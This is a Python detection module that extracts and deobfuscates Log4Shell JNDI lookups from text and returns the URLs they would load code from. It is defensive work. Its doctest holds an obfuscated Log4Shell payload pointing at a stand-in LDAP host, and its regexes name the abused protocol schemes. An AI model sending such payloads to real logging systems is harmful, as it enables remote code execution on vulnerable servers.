"""JNDI look-ups, as Log4Shell (CVE-2021-44228) puts them into any text that may be logged."""

import re
from urllib.parse import unquote

from cure.formats.typed import typed_url
from cure.model import Observable

_LOOKUP = re.compile(
    r"\$\{jndi:((?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)://[^\s}\"'<>]+)", re.IGNORECASE
)
_OTHER_LOOKUP = re.compile(r"\$\{(?!jndi:)([^${}]*+)\}", re.IGNORECASE)
_MAX_TEXT_CHARS = 16_384
_MAX_DEPTH = 8


def looked_up(text: str) -> list[Observable]:
    """Return the URLs from which the look-ups in a text would load code.

    >>> [found.value for found in looked_up("%24%7B${lower:j}ndi:ldap://example.com:1389/a%7D")]
    ['ldap://example.com:1389/a']
    """
    plain = unquote(text[:_MAX_TEXT_CHARS], errors="backslashreplace")
    for _ in range(_MAX_DEPTH):
        plain, count = _OTHER_LOOKUP.subn(_result, plain)
        if not count:
            break
    return [found for one in _LOOKUP.findall(plain) if (found := typed_url(one))]


def _result(disguise: re.Match[str]) -> str:
    """Return what ${lower:j}, ${env:NONE:-j} and ${::-j} stand for: j."""
    name, has_default, default = disguise[1].partition(":-")
    return default if has_default else name.rpartition(":")[2]
